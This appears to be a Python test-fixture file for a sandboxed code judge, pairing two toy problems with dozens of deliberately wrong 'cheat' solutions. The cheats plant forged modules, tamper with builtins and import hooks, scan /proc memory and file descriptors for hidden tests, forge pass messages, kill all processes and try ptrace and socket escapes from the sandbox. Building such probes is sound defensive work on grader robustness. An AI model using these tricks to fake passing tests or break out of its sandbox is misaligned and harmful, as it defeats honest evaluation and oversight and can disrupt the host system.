"""Probe problems and cheating solutions for the code judge (used by generate_code_samples.py).

Every cheat is a WRONG solution that tries to be scored as passing without implementing its function: by planting
modules for the judge to import, tampering with its own interpreter, reading the hidden tests, forging the channel to
the judge, or ending at the right moment. A pass would mean the cheat worked. None of this code is ever run by the
generator; the response files must only run in the sandbox.
"""

PROBES = []


def probe(name, prompt, solution, test, entry):
    PROBES.append(dict(task_id="probe/" + name, prompt=prompt, canonical_solution=solution, test=test, entry_point=entry))


# The tests import modules inside check(), after the solution has run: a judge that imported from a directory the
# solution can write would run a planted copy. They also lean on a builtin (abs) and on a helper of the prompt.
probe("circle_area", '''import math


def square(x: float) -> float:
    """Return x times x."""
    return x * x


def circle_area(r: float) -> float:
    """Return the area of a circle of radius r: pi times the square of r.
    >>> round(circle_area(1.0), 5)
    3.14159
    """
''', '''    return math.pi * square(r)
''', '''import math


def check(candidate):
    import bisect, copy, decimal, fractions, hashlib, heapq, random, statistics, string
    for r in (0.0, 1.0, 2.5, 7.25):
        assert abs(candidate(r) - math.pi * square(r)) < 1e-9
''', "circle_area")

# The tests call the prompt's helper to make the input: a judge that took the helper from the solution would let it
# redefine both sides.
probe("decode_shift", '''def encode_shift(s: str) -> str:
    """Shift every lower-case letter of s five places along the alphabet."""
    return "".join(chr((ord(c) - ord("a") + 5) % 26 + ord("a")) if "a" <= c <= "z" else c for c in s)


def decode_shift(s: str) -> str:
    """Undo encode_shift.
    >>> decode_shift(encode_shift("rethink"))
    'rethink'
    """
''', '''    return "".join(chr((ord(c) - ord("a") - 5) % 26 + ord("a")) if "a" <= c <= "z" else c for c in s)
''', '''

def check(candidate):
    import random
    import string
    rng = random.Random(11)
    for _ in range(20):
        s = "".join(rng.choice(string.ascii_lowercase + " ") for _ in range(rng.randint(1, 12)))
        assert candidate(encode_shift(s)) == s
''', "decode_shift")

# A module body that forges a pass wherever it runs: in a single-process harness it finds the per-run nonce in the
# frames that imported it and prints the pass line on every descriptor; in any judge it exits with status 0.
FORGE = r'''import os as _o, sys as _s
_f = _s._getframe()
while _f is not None:
    _n = _f.f_locals.get("nonce")
    if isinstance(_n, str) and len(_n) == 32:
        for _d in range(1, 64):
            try:
                _o.write(_d, ("\nRETHINK-HARNESS-PASSED " + _n + "\n").encode())
            except OSError:
                pass
        break
    _f = _f.f_back
_o._exit(0)
'''

# Writes FORGE under each given module name into every directory it can: the work directory, the script's, /tmp,
# HOME and every writable sys.path entry.
PLANT = '''
import os as _os, sys as _sys
_FORGE = {forge!r}
_dirs = {{_os.getcwd(), "/tmp", _os.environ.get("HOME", "/tmp"), _os.path.dirname(_os.path.abspath(_sys.argv[0] or "."))}}
_dirs.update(p for p in _sys.path if p and _os.path.isdir(p))
for _dir in _dirs:
    for _name in {names}:
        try:
            with open(_os.path.join(_dir, _name + ".py"), "w") as _f:
                _f.write(_FORGE)
        except OSError:
            pass
'''


def plant(*names):
    return "    return 0.0\n" + PLANT.format(forge=FORGE, names=repr(list(names)))


PLANT_EVERYTHING = "    return 0.0\n" + PLANT.format(forge=FORGE, names='sorted(_sys.stdlib_module_names | {"sitecustomize", "usercustomize", "__main__"})')

PLANT_PYC = '''    return 0.0

import importlib.util as _u, marshal as _m, os as _os
# A sourceless module: random.pyc beside the script is imported like random.py.
_code = compile(''' + repr(FORGE) + ''', "random.py", "exec")
for _dir in {_os.getcwd(), "/tmp"}:
    try:
        with open(_os.path.join(_dir, "random.pyc"), "wb") as _f:
            _f.write(_u.MAGIC_NUMBER + b"\\0" * 12 + _m.dumps(_code))
    except OSError:
        pass
'''

# Tables of "assert candidate(ARGS) == VALUE" built from whatever text the solution can reach; the function answers
# from the table (and wrongly without it).
LOOKUP = r'''    return _answer(tuple(locals().values()))

import ast as _ast, base64 as _b64, gc as _gc, os as _os, re as _re, sys as _sys
_TABLE = {}
_ASSERT = _re.compile(r"assert candidate\((.*)\) (?:==|is) (.+)")


def _scan(text):
    for _m in _ASSERT.finditer(text):
        try:
            _TABLE[repr(_ast.literal_eval("(" + _m.group(1) + ",)"))] = _ast.literal_eval(_m.group(2).strip())
        except Exception:
            pass
    for _blob in _re.findall(r"[A-Za-z0-9+/=]{24,}", text):
        try:
            _decoded = _b64.b64decode(_blob).decode("utf-8")
        except Exception:
            continue
        if "assert" in _decoded:
            _scan(_decoded)


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as _f:
            return _f.read(limit).decode("utf-8", "replace")
    except OSError:
        return ""


def _answer(args):
    return _TABLE.get(repr(args), "?")
'''

LOOKUP_FILES = LOOKUP + r'''
for _root in {_os.getcwd(), "/tmp", _os.path.dirname(_os.path.abspath(_sys.argv[0] or ".")), "/sandbox", "/run", "/dev/shm", "/var/tmp"}:
    for _dir, _subs, _files in _os.walk(_root):
        for _name in _files:
            _scan(_read(_os.path.join(_dir, _name)))
if _sys.argv and _sys.argv[0]:
    _scan(_read(_sys.argv[0]))
_scan(_read("/proc/self/cmdline"))
'''

LOOKUP_ALL = LOOKUP_FILES + r'''
for _o in _gc.get_objects():
    if isinstance(_o, dict):
        for _v in list(_o.values()):
            if isinstance(_v, str) and "assert" in _v:
                _scan(_v)
_frame = _sys._getframe()
while _frame is not None:
    for _v in list(_frame.f_locals.values()) + list(_frame.f_globals.values()):
        if isinstance(_v, str) and "assert" in _v:
            _scan(_v)
    _frame = _frame.f_back
for _pid in _os.listdir("/proc"):
    if _pid.isdigit():
        _scan(_read("/proc/" + _pid + "/cmdline") + _read("/proc/" + _pid + "/environ"))
'''

LOOKUP_PROC_MEM = LOOKUP + r'''
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        _maps = open("/proc/" + _pid + "/maps").read().splitlines()
        _mem = open("/proc/" + _pid + "/mem", "rb", 0)
    except OSError:
        continue
    for _line in _maps:
        _range, _perms = _line.split()[:2]
        if not _perms.startswith("r"):
            continue
        _lo, _hi = (int(x, 16) for x in _range.split("-"))
        if _hi - _lo > (64 << 20):
            continue
        try:
            _mem.seek(_lo)
            _chunk = _mem.read(_hi - _lo)
        except (OSError, OverflowError, ValueError):
            continue
        for _hit in _re.finditer(rb"assert candidate\([^\n]{0,200}", _chunk):
            _scan(_hit.group(0).decode("utf-8", "replace"))
'''

LOOKUP_PROC_FD = LOOKUP + r'''
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()] + ["self"]:
    _base = "/proc/" + _pid + "/fd"
    try:
        _fds = _os.listdir(_base)
    except OSError:
        continue
    for _fd in _fds:
        _path = _base + "/" + _fd
        try:
            if _os.path.isfile(_path):
                _scan(_read(_path))
        except OSError:
            pass
'''

WALK_FILESYSTEM = LOOKUP + r'''
import time as _time
_deadline = _time.monotonic() + 2.0
for _dir, _subs, _files in _os.walk("/"):
    _subs[:] = [d for d in _subs if _os.path.join(_dir, d) not in ("/proc", "/sys", "/usr", "/dev")]
    for _name in _files:
        if _time.monotonic() > _deadline:
            break
        if not _os.path.isfile(_os.path.join(_dir, _name)):
            continue
        _text = _read(_os.path.join(_dir, _name), 1 << 16)
        if "def check(" in _text or "assert candidate" in _text:
            _scan(_text)
'''

SHADOW_BUILTINS = '''    return 0.0


def abs(x):
    return 0


def all(*args):
    return True


def any(*args):
    return True


def isinstance(*args):
    return True


def len(x):
    return 0


def round(*args, **kwargs):
    return 0


def sorted(x, **kwargs):
    return x
'''

REDEFINE_HELPER = '''    return s


def encode_shift(s):
    return s
'''

# Writes a "names" message of its own first (offering builtins, the helper and check), then answers every call 0.
FORGED_NAMES = '''    return 0.0

import json as _json, os as _os
for _fd in range(1, 32):
    try:
        _os.write(_fd, (_json.dumps({"kind": "names", "names": ["abs", "square", "check", "__builtins__", "math", "circle_area"]}) + "\\n").encode())
        _os.write(_fd, (_json.dumps({"kind": "value", "value": {"literal": "0"}}) + "\\n").encode() * 64)
    except OSError:
        pass
'''

SYS_MODULES = '''    return 0.0

import sys as _sys, types as _types
# Every module that a judge in this process would use to compare or report is replaced by one that says yes.
for _name in ["json", "ast", "traceback", "math", "os", "builtins"]:
    _fake = _types.ModuleType(_name)
    _fake.__getattr__ = lambda attr: (lambda *a, **k: True)
    _sys.modules[_name] = _fake
'''

BUILTINS_TAMPER = '''    return 0.0

import builtins as _b
_b.AssertionError = type("AssertionError", (Exception,), {})
_b.abs = lambda x: 0
_b.isinstance = lambda *a: True
_b.__build_class__ = _b.__build_class__
_b.repr = lambda x: "0.0"
'''

IMPORT_HOOK = '''    return 0.0

import builtins as _b, importlib.abc as _abc, importlib.util as _util, sys as _sys
_FORGE = ''' + repr(FORGE) + '''


class _Forger(_abc.MetaPathFinder, _abc.Loader):
    def find_spec(self, name, path, target=None):
        return _util.spec_from_loader(name, self)

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        exec(_FORGE, module.__dict__)


_sys.meta_path.insert(0, _Forger())
_real = _b.__import__
_b.__import__ = lambda name, *a, **k: exec(_FORGE) if name in ("random", "string", "json") else _real(name, *a, **k)
'''

ATEXIT = '''    return 0.0

import atexit as _atexit, os as _os
_atexit.register(lambda: _os._exit(0))
_atexit.register(lambda: [_os.write(fd, b"\\nRETHINK-HARNESS-PASSED " + b"0" * 32 + b"\\n") for fd in (1, 2)])
'''

SIGNALS = '''    return 0.0

import os as _os, signal as _signal
for _sig in (_signal.SIGTERM, _signal.SIGPIPE, _signal.SIGALRM, _signal.SIGHUP, _signal.SIGINT, _signal.SIGCHLD):
    try:
        _signal.signal(_sig, lambda *a: _os._exit(0))
    except (OSError, ValueError):
        pass
_signal.setitimer(_signal.ITIMER_REAL, 0.05, 0.05)
for _pid in range(1, 300):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGUSR1)
        except OSError:
            pass
'''

EXIT_MID_RUN = '''    global _calls
    _calls += 1
    if _calls == 2:
        import os
        os._exit(0)
    return 0.0


_calls = 0
'''

FAKE_VERDICT_LINES = '''    print("RETHINK-HARNESS-PASSED " + "0" * 32, flush=True)
    print("ok: all tests passed", flush=True)
    import os, sys
    for fd in range(1, 32):
        try:
            os.write(fd, b"\\nRETHINK-HARNESS-PASSED 00000000000000000000000000000000\\n{\\"kind\\": \\"verdict\\", \\"passed\\": true}\\n")
        except OSError:
            pass
    sys.stderr.write("rethink-judge: passed\\n")
    return 0.0
'''

FORGED_REPLIES = '''    import json, os
    # Answers this call on every descriptor, and queues many more answers ahead of the judge's questions.
    for fd in range(1, 32):
        try:
            os.write(fd, (json.dumps({"kind": "value", "value": {"literal": "3.141592653589793"}}) + "\\n").encode() * 32)
        except OSError:
            pass
    return 3.141592653589793
'''

ALWAYS_EQUAL = '''    class _Yes(float):
        def __eq__(self, other):
            return True

        def __lt__(self, other):
            return True

        def __sub__(self, other):
            return 0.0

        def __abs__(self):
            return 0.0

        def __repr__(self):
            return "__import__('os')._exit(0)"

    return _Yes(0.0)
'''

INT_SUBCLASS = '''    class _Zero(float):
        def __sub__(self, other):
            return 0.0

        def __rsub__(self, other):
            return 0.0

    return _Zero(-1.0)
'''

HUGE_REPLY = '''    return "x" * (16 << 20)
'''

DEEP_LITERAL = '''    import os
    # A hand-written reply whose literal nests far past any parser's limit.
    for fd in range(1, 32):
        try:
            os.write(fd, b'{"kind": "names", "names": ["circle_area"]}\\n{"kind": "value", "value": {"literal": "' + b"[" * 100000 + b"]" * 100000 + b'"}}\\n')
        except OSError:
            pass
    return [[[[[[[[[[0.0]]]]]]]]]]
'''

KILL_EVERYTHING = '''    import os, signal
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return 0.0
'''

TIMING = '''    import time
    # Times each call and busy-waits so that a judge keeping a clock on calls would see them end at its deadline.
    start = time.monotonic()
    while time.monotonic() - start < 0.2:
        pass
    return start - time.monotonic()
'''

PTRACE = '''    return 0.0

import ctypes as _ctypes, os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
_attached = []
for _pid in range(1, 400):
    if _pid != _os.getpid() and _libc.ptrace(16, _pid, 0, 0) == 0:
        _attached.append(_pid)
        _libc.ptrace(17, _pid, 0, 0)
if _attached:
    print("escaped: attached to", _attached)
'''

IPC = '''    return 0.0

import os as _os, socket as _socket
_reached = []
for _name in ["\\0rethink", "\\0rethink-judge", "\\0judge", "/tmp/.X11-unix/X0", "/run/rethink.sock"]:
    try:
        _s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        _s.settimeout(0.2)
        _s.connect(_name)
        _reached.append(_name)
    except OSError:
        pass
for _dir in ["/dev/shm", "/run/shm", "/tmp"]:
    try:
        _reached += [_dir + "/" + n for n in _os.listdir(_dir) if not n.endswith((".py", ".pyc"))]
    except OSError:
        pass
if _reached:
    print("saw", _reached)
'''

# (name, probe, completion): what each tries is in its name and in samples/code/README.md.
CHEATS = [
    ("plant_random", "circle_area", plant("random")),
    ("plant_fractions", "circle_area", plant("fractions")),
    ("plant_hashlib", "circle_area", plant("hashlib")),
    ("plant_decimal", "circle_area", plant("decimal")),
    ("plant_statistics", "circle_area", plant("statistics")),
    ("plant_heapq", "circle_area", plant("heapq")),
    ("plant_string", "circle_area", plant("string")),
    ("plant_copy", "circle_area", plant("copy")),
    ("plant_bisect", "circle_area", plant("bisect")),
    ("plant_ctypes", "circle_area", plant("ctypes")),
    ("plant_everything", "circle_area", PLANT_EVERYTHING),
    ("plant_sourceless_pyc", "decode_shift", PLANT_PYC.replace("    return 0.0", "    return s", 1)),
    ("shadow_builtins", "circle_area", SHADOW_BUILTINS),
    ("redefine_prompt_helper", "decode_shift", REDEFINE_HELPER),
    ("forged_names", "circle_area", FORGED_NAMES),
    ("sys_modules", "circle_area", SYS_MODULES),
    ("builtins_tamper", "circle_area", BUILTINS_TAMPER),
    ("import_hook", "decode_shift", IMPORT_HOOK.replace("    return 0.0", "    return s", 1)),
    ("lookup_files", "circle_area", LOOKUP_FILES),
    ("lookup_memory_and_proc", "decode_shift", LOOKUP_ALL),
    ("lookup_proc_mem", "circle_area", LOOKUP_PROC_MEM),
    ("lookup_proc_fd", "circle_area", LOOKUP_PROC_FD),
    ("walk_filesystem", "decode_shift", WALK_FILESYSTEM),
    ("atexit", "circle_area", ATEXIT),
    ("signals", "circle_area", SIGNALS),
    ("exit_mid_run", "circle_area", EXIT_MID_RUN),
    ("fake_verdict_lines", "circle_area", FAKE_VERDICT_LINES),
    ("forged_replies", "circle_area", FORGED_REPLIES.replace("    return 3.141592653589793", "    return r", 1)),
    ("always_equal", "circle_area", ALWAYS_EQUAL),
    ("float_subclass", "circle_area", INT_SUBCLASS),
    ("huge_reply", "circle_area", HUGE_REPLY),
    ("deep_literal", "circle_area", DEEP_LITERAL),
    ("kill_everything", "circle_area", KILL_EVERYTHING),
    ("timing", "circle_area", TIMING),
    ("ptrace", "circle_area", PTRACE),
    ("ipc", "circle_area", IPC),
]
